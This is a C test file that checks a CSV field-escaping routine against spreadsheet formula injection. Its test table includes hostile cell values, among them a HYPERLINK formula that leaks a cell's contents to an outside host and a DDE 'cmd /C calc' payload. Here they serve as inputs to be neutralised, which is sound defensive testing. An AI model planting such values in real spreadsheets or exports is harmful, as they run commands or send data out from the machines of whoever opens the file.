/* csv.c - fields of CSV that no spreadsheet takes for a formula. */
#include <stdio.h>

#include "jobs/text/text.h"
#include "tests/tap.h"

static const struct {
    const char *text, *want;
} fields[] = {
    {"", ""},
    {"plain", "plain"},
    {"a,b", "\"a,b\""},
    {"say \"x\"", "\"say \"\"x\"\"\""},
    {"two\nlines", "\"two\nlines\""},
    {"=1+1", "'=1+1"},
    {"=HYPERLINK(\"http://e/\"&A1)", "\"'=HYPERLINK(\"\"http://e/\"\"&A1)\""},
    {"=a,b", "\"'=a,b\""},
    {"+1+1", "'+1+1"},
    {"-2+3", "'-2+3"},
    {"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
    {"@SUM(1)", "'@SUM(1)"},
    {"\t=1", "'\t=1"},
    {"\r=1", "\"'\r=1\""},
    {"\n=1", "\"'\n=1\""},
    {"a=1", "a=1"},
    {"'=1", "'=1"},
    /* Numbers stay numbers. */
    {"-1", "-1"},
    {"-0.5", "-0.5"},
    {"-.5", "-.5"},
    {"+3", "+3"},
    {"-1.5e-05", "-1.5e-05"},
    {"-2E+3", "-2E+3"},
    {"-", "'-"},
    {"-.", "'-."},
    {"-1e", "'-1e"},
    {"-0x10", "'-0x10"},
    {"-inf", "'-inf"},
    {"-1 2", "'-1 2"},
};

int main(void)
{
    struct buf b = BUF_INIT;
    struct error err = ERROR_INIT;
    for (size_t i = 0; i < sizeof(fields) / sizeof(fields[0]); i++) {
        buf_reset(&b);
        is_int(text_add_csv(&b, fields[i].text, &err), 0, "adds");
        is_str(buf_str(&b), fields[i].want, "a field");
    }
    buf_clear(&b);
    return tap_done();
}
